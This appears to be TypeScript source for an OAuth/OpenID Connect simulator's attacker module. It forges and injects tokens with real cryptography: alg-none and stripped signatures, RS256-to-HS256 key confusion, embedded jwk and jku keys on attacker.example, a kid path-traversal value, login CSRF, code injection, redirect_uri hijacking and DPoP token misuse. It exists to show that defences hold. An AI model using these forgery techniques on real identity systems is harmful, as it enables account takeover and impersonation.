/**
 * The attacker: forges and injects messages with real crypto and real requests, so the
 * defences that stop them are the real ones.
 */
import {
	exportJWK,
	exportSPKI,
	generateKeyPair,
	importJWK,
	SignJWT,
	type JWK,
	type JWTHeaderParameters
} from 'jose';
import {
	ATTACKER_USER,
	codeRedemptionRequest,
	createAuthorizationRequest,
	discoveryRequest,
	readCallback,
	readDiscovery,
	readJwks,
	SAMPLE_CLIENTS,
	redirectLocation,
	s256,
	type HttpRequest,
	type HttpResponse
} from '../../core/index';
import { forgeFapi } from './fapi';
import { forgeEncryptedIdToken } from './jwe';
import { randomToken } from '../../core/random';
import { forgeJwt, replaceInMessage, requestTokens, responseTokens } from '../tokens';
import type { ForgeRecipe, Intervention, TokenSnapshot, Transport } from '../types';

/** A message as an intervention left it, and what to say about it. */
export interface Edited<T> {
	message: T;
	/** The step the attacker's act is shown as, just before the message. */
	action: { label: string; note: string };
	/** The note on the changed message. */
	note: string;
	/** The attacker lured the sender into sending it, rather than sending it itself. */
	lure: boolean;
}

export interface RecipeInfo {
	title: string;
	/** The attacker lures the victim's browser into sending it (rather than intercepting it). */
	lure: boolean;
	/** What the attacker does, for the note on the diagram's step. */
	does: string;
	/**
	 * The attacker only reads the message, which goes on unchanged: the note it gets instead of
	 * "forged by the attacker".
	 */
	reads?: string;
}

export const RECIPES: Record<ForgeRecipe, RecipeInfo> = {
	'strip-signature': {
		title: 'strip the signature',
		lure: false,
		does: 'changes the id_token’s sub and removes its signature.'
	},
	'key-confusion': {
		title: 'RS256 → HS256 key confusion',
		lure: false,
		does: 'signs a forged id_token with HS256, using the issuer’s public key (from its JWKS) as the HMAC secret.'
	},
	'embedded-jwk': {
		title: 'embed its own key (jwk)',
		lure: false,
		does: 'signs a forged id_token with its own key and puts that key in the header’s jwk.'
	},
	jku: {
		title: 'point to its own keys (jku)',
		lure: false,
		does: 'signs a forged id_token with its own key and sets jku to a JWKS on its server.'
	},
	'kid-traversal': {
		title: 'kid path traversal',
		lure: false,
		does: 'signs a forged id_token with kid "../../../../dev/null", hoping for a file-system key lookup.'
	},
	'kid-unknown': {
		title: 'a key nobody published',
		lure: false,
		does: 'signs a forged id_token with its own key under a new kid.'
	},
	'access-token-as-id-token': {
		title: 'access token as id_token',
		lure: false,
		does: 'puts the access token where the id_token should be (both are signed by the issuer).'
	},
	csrf: {
		title: 'CSRF on the callback',
		lure: true,
		does: 'logs in as itself, then makes the victim’s browser load the callback with the attacker’s code and no state.'
	},
	'csrf-leaked-state': {
		title: 'login CSRF with a leaked state',
		lure: true,
		does: 'logs in as itself, then makes the victim’s browser load the callback with the attacker’s code and the victim’s own state, which it read from the victim’s authorization response.'
	},
	'inject-code': {
		title: 'inject the victim’s code into its own session',
		lure: true,
		does: 'reads the victim’s code in the callback URL, starts its own sign-in at the same client from its own browser, and puts the victim’s code in place of its own in that sign-in’s callback.',
		reads:
			'Read by the attacker: this callback URL, and the victim’s code in it, leak to the attacker (RFC 9700 §4.5.1 step 1). The message itself goes on unchanged.'
	},
	'redirect-uri': {
		title: 'redirect_uri manipulation',
		lure: true,
		does: 'sends the victim a login link whose redirect_uri points to the attacker’s site.'
	},
	'par-front-channel': {
		title: 'parameters beside request_uri',
		lure: true,
		does: 'rewrites the victim’s login link: redirect_uri to the attacker’s site and a wider scope, next to the genuine request_uri.'
	},
	'dpop-stolen-token': {
		title: 'stolen DPoP-bound token',
		lure: false,
		does: 'copies the access token and sends it with a DPoP proof signed by its own key.'
	},
	'dpop-wrong-url': {
		title: 'DPoP proof at another URL',
		lure: false,
		does: 'sends the captured token and proof to another URL of the same API.'
	},
	'jwe-forged-signature': {
		title: 'encrypted forgery',
		lure: false,
		does: 'signs an id_token about itself with its own key, under the issuer’s kid, and encrypts it to the client with the client’s public encryption key, as anyone can.'
	},
	'id-token-as-logout-token': {
		title: 'id_token as logout token',
		lure: false,
		does: 'signs in to the same client as itself, takes the genuine id_token the issuer gives it, and posts that to the client’s back-channel logout URI as the logout_token.'
	}
};

const ATTACKER_ORIGIN = 'https://attacker.example';
const attackerKeys = new Map<string, Promise<{ privateKey: CryptoKey; publicJwk: JWK }>>();

/** The attacker's own key pair, of the algorithm the victim expects, so the alg check passes. */
function key(alg: string) {
	const usable = ['RS256', 'PS256', 'ES256', 'EdDSA'].includes(alg) ? alg : 'RS256';
	let pair = attackerKeys.get(usable);
	if (!pair) {
		pair = generateKeyPair(usable, usable === 'EdDSA' ? { crv: 'Ed25519' } : {}).then(
			async ({ privateKey, publicKey }) => ({
				privateKey,
				publicJwk: { ...(await exportJWK(publicKey)), kid: 'attacker-key-1', alg: usable }
			})
		);
		attackerKeys.set(usable, pair);
	}
	return pair;
}

/** The forged claims: the same token, but about the attacker. */
function asAttacker(payload: Record<string, unknown>): Record<string, unknown> {
	return {
		...payload,
		sub: ATTACKER_USER.id,
		email: ATTACKER_USER.profile.email,
		name: ATTACKER_USER.profile.name
	};
}

function tokensOf(message: HttpRequest | HttpResponse): TokenSnapshot[] {
	return 'method' in message ? requestTokens(message) : responseTokens(message);
}

export class Attacker {
	constructor(
		private readonly network: Transport,
		private readonly issuer: string
	) {}

	/**
	 * Applies an intervention (other than a replay) to a message in transit. Undefined when the
	 * message has nothing it applies to, as a note says.
	 */
	async intervene<T extends HttpRequest | HttpResponse>(
		intervention: Exclude<Intervention, { kind: 'replay' }>,
		message: T
	): Promise<Edited<T> | { note: string }> {
		if (intervention.kind === 'forge') {
			const recipe = RECIPES[intervention.recipe];
			const forged = await this.forge(intervention.recipe, message);
			if (!forged) return { note: `Nothing here for “${recipe.title}” to work on.` };
			return {
				message: forged,
				lure: recipe.lure,
				action: { label: recipe.title, note: `The attacker ${recipe.does}` },
				note: recipe.reads ?? `Forged by the attacker: ${recipe.title}.`
			};
		}
		const tokens = tokensOf(message).filter((t) => t.payload);
		const target = tokens.find((t) => t.name === (intervention.token ?? 'id_token')) ?? tokens[0];
		const forged =
			target &&
			forgeJwt(target.value, (header, payload) => {
				if (intervention.kind === 'alg-none') header.alg = 'none';
				else payload[intervention.claim] = intervention.value;
			});
		if (!target || !forged) return { note: 'No token in this message to tamper with.' };
		const what =
			intervention.kind === 'alg-none'
				? `the ${target.name}'s header set to alg "none" and its signature removed`
				: `the ${target.name}'s ${intervention.claim} set to ${JSON.stringify(intervention.value)}, signature kept`;
		return {
			message: replaceInMessage(
				message as T & { headers: [string, string][] },
				target.value,
				forged
			),
			lure: false,
			action: {
				label: intervention.kind === 'alg-none' ? 'alg: none' : `tamper with ${intervention.claim}`,
				note: `The attacker edits the message in transit: ${what}.`
			},
			note: `Tampered in transit: ${what}.`
		};
	}

	/** Applies a recipe to a message; undefined when the message has nothing it applies to. */
	async forge<T extends HttpRequest | HttpResponse>(
		recipe: ForgeRecipe,
		message: T
	): Promise<T | undefined> {
		const tokens = tokensOf(message);
		const target =
			tokens.find((t) => t.name === 'id_token' && t.payload) ?? tokens.find((t) => t.payload);
		const swap = (forged: string | undefined) =>
			target && forged
				? replaceInMessage(message as T & { headers: [string, string][] }, target.value, forged)
				: undefined;

		switch (recipe) {
			case 'strip-signature': {
				const forged =
					target &&
					forgeJwt(target.value, (_, payload) => Object.assign(payload, asAttacker(payload)));
				return swap(forged?.replace(/\.[^.]*$/, '.'));
			}
			case 'key-confusion': {
				if (!target?.payload) return undefined;
				// The JWKS is public: anyone can fetch it.
				const jwks = readJwks(
					await this.network.send('attacker', {
						method: 'GET',
						url: `${this.issuer}.well-known/jwks.json`,
						headers: []
					})
				);
				const kid = target.header?.kid;
				const published = jwks.keys.find((k) => k.kid === kid) ?? jwks.keys[0];
				if (!published) return undefined;
				const pem = await exportSPKI(
					(await importJWK(published, String(published.alg ?? 'RS256'))) as CryptoKey
				);
				const forged = await new SignJWT(asAttacker(target.payload))
					.setProtectedHeader({ alg: 'HS256', kid: published.kid, typ: 'JWT' })
					.sign(new TextEncoder().encode(pem));
				return swap(forged);
			}
			case 'embedded-jwk':
			case 'jku':
			case 'kid-traversal':
			case 'kid-unknown': {
				if (!target?.payload) return undefined;
				const { privateKey, publicJwk } = await key(String(target.header?.alg));
				const header: JWTHeaderParameters = { alg: String(publicJwk.alg), typ: 'JWT' };
				// Only the key material goes in the header, as an attacker's library would put it.
				const bareKey = Object.fromEntries(
					Object.entries(publicJwk).filter(([name]) =>
						['kty', 'crv', 'x', 'y', 'n', 'e'].includes(name)
					)
				);
				if (recipe === 'embedded-jwk') Object.assign(header, { kid: publicJwk.kid, jwk: bareKey });
				if (recipe === 'jku')
					Object.assign(header, {
						kid: publicJwk.kid,
						jku: `${ATTACKER_ORIGIN}/.well-known/jwks.json`
					});
				if (recipe === 'kid-traversal') header.kid = '../../../../dev/null';
				if (recipe === 'kid-unknown') header.kid = 'rotated-key-2';
				const forged = await new SignJWT(asAttacker(target.payload))
					.setProtectedHeader(header)
					.sign(privateKey);
				return swap(forged);
			}
			case 'access-token-as-id-token': {
				const access = tokens.find((t) => t.name === 'access_token');
				return access && target ? swap(access.value) : undefined;
			}
			case 'csrf':
			case 'csrf-leaked-state': {
				if (!('method' in message) || !new URL(message.url).searchParams.has('code'))
					return undefined;
				const url = new URL(message.url);
				const code = await this.#ownCode(url.origin + url.pathname);
				if (!code) return undefined;
				url.searchParams.set('code', code);
				// Plain CSRF sends no state; with a leaked state the victim's own stays (RFC 9700 §4.7.1).
				if (recipe === 'csrf') url.searchParams.delete('state');
				return { ...message, url: url.href };
			}
			case 'inject-code': {
				// Only read: the victim's callback goes on as it was.
				if (!('method' in message)) return undefined;
				return (await this.#injectIntoOwnSession(message.url)) ? message : undefined;
			}
			case 'jwe-forged-signature': {
				// An encrypted id_token has no readable payload: the target is found by name.
				const encrypted = tokens.find((t) => t.name === 'id_token' && !t.payload);
				const forged = await forgeEncryptedIdToken(encrypted, tokens, {
					jwks: async () =>
						readJwks(
							await this.network.send('attacker', {
								method: 'GET',
								url: `${this.issuer}.well-known/jwks.json`,
								headers: []
							})
						),
					keyFor: key
				});
				return encrypted && forged
					? replaceInMessage(
							message as T & { headers: [string, string][] },
							encrypted.value,
							forged
						)
					: undefined;
			}
			case 'id-token-as-logout-token': {
				if (target?.name !== 'logout_token' || !('method' in message)) return undefined;
				return swap(await this.#ownIdToken(message.url));
			}
			case 'redirect-uri': {
				if (!('method' in message) || !new URL(message.url).searchParams.has('redirect_uri'))
					return undefined;
				const url = new URL(message.url);
				url.searchParams.set('redirect_uri', `${ATTACKER_ORIGIN}/callback`);
				return { ...message, url: url.href };
			}
			case 'par-front-channel':
			case 'dpop-stolen-token':
			case 'dpop-wrong-url':
				return forgeFapi(recipe, message, ATTACKER_ORIGIN);
		}
	}

	/**
	 * The attacker signs in as itself to the client that owns this back-channel logout URI, asking
	 * for an id_token straight from the authorization endpoint, and keeps the genuine token it gets.
	 */
	async #ownIdToken(logoutUri: string): Promise<string | undefined> {
		const client = SAMPLE_CLIENTS.find((c) => c.backchannel_logout_uri === logoutUri);
		const redirectUri = client?.redirect_uris[0];
		if (!client || !redirectUri) return undefined;
		const location = await this.#authorizeAsItself({
			response_type: 'id_token',
			client_id: client.client_id,
			redirect_uri: redirectUri,
			nonce: randomToken(16)
		});
		if (!location) return undefined;
		return new URLSearchParams(new URL(location).hash.slice(1)).get('id_token') ?? undefined;
	}

	/**
	 * RFC 9700 §4.5.1: with the victim's code read from the victim's callback URL, the attacker
	 * starts a sign-in of its own at the same client (step 2) and, in the authorization response
	 * that comes back, puts the victim's code in place of its own (step 3). The client is public
	 * (an SPA), so the attacker's session with it is the same SPA running in the attacker's
	 * browser: its own state, nonce and PKCE verifier, made by the client's own code. It checks
	 * the state (its own, so it passes) and redeems the code with its own code_verifier, which
	 * does not match the code_challenge the victim's code is bound to (§4.5.3.1). False when
	 * there is no code to steal, or the client is not one that runs in the browser.
	 */
	async #injectIntoOwnSession(victimCallback: string): Promise<boolean> {
		const callback = new URL(victimCallback);
		const stolen = callback.searchParams.get('code');
		const redirectUri = callback.origin + callback.pathname;
		const client = SAMPLE_CLIENTS.find((c) => c.redirect_uris.includes(redirectUri));
		// A web server's sessions live on its server, which this simulation runs one of per flow.
		if (!stolen || !client || client.token_endpoint_auth_method !== 'none') return false;
		const metadata = readDiscovery(
			await this.network.send('attacker', discoveryRequest(this.issuer), {
				note: 'The attacker opens the same app in its own browser: the app looks up the issuer, as it does for anyone.'
			}),
			this.issuer
		);
		const own = await createAuthorizationRequest(metadata, {
			clientId: client.client_id,
			redirectUri,
			scope: 'openid',
			loginHint: ATTACKER_USER.id
		});
		const location = redirectLocation(
			await this.network.send(
				'attacker',
				{ method: 'GET', url: own.url, headers: [] },
				{
					note: 'RFC 9700 §4.5.1 step 2: the attacker starts an ordinary sign-in with the legitimate client, from its own browser. The app there made its own state, nonce and PKCE code_challenge: the attacker’s session.'
				}
			)
		);
		if (!location) return false;
		const injected = new URL(location);
		if (!injected.searchParams.has('code')) return false;
		injected.searchParams.set('code', stolen);
		await this.network.send(
			'attacker',
			{ method: 'GET', url: injected.href, headers: [] },
			{
				note: 'RFC 9700 §4.5.1 step 3: in its own authorization response the attacker puts the victim’s code in place of the one it got. The state is its own session’s, so the app’s state check passes.'
			}
		);
		const read = readCallback({ url: injected.href }, own, metadata.issuer);
		if (!read.ok || !read.params.code) return false;
		await this.network.send(
			'attacker',
			codeRedemptionRequest(
				metadata,
				{ clientId: client.client_id, authMethod: 'none' },
				read.params.code,
				own
			),
			{
				note: 'The app in the attacker’s browser redeems the victim’s code with the code_verifier of the attacker’s session (RFC 9700 §4.5.1 step 4).'
			}
		);
		return true;
	}

	/** The attacker logs in as itself, with its own PKCE, and keeps the code it gets. */
	async #ownCode(redirectUri: string): Promise<string | undefined> {
		const verifier = 'attacker-verifier-0123456789-0123456789-0123456789';
		const location = await this.#authorizeAsItself({
			response_type: 'code',
			client_id: redirectUri.startsWith('https://spa.example')
				? 'tokenstep-spa'
				: 'tokenstep-webapp',
			redirect_uri: redirectUri,
			nonce: 'attacker-nonce',
			code_challenge: await s256(verifier),
			code_challenge_method: 'S256'
		});
		return location ? (new URL(location).searchParams.get('code') ?? undefined) : undefined;
	}

	/**
	 * The attacker signs in at the issuer as itself (its own account, state and scope), and gets
	 * back the redirect's Location: what a real attacker's browser would see.
	 */
	async #authorizeAsItself({
		response_type,
		client_id,
		redirect_uri,
		nonce,
		...pkce
	}: Record<'response_type' | 'client_id' | 'redirect_uri' | 'nonce', string> &
		Record<string, string>): Promise<string | undefined> {
		const url = new URL('authorize', this.issuer);
		url.search = new URLSearchParams({
			response_type,
			client_id,
			redirect_uri,
			scope: 'openid',
			state: 'attacker-state',
			nonce,
			login_hint: ATTACKER_USER.id,
			...pkce
		}).toString();
		const response = await this.network.send('attacker', {
			method: 'GET',
			url: url.href,
			headers: []
		});
		return redirectLocation(response);
	}
}
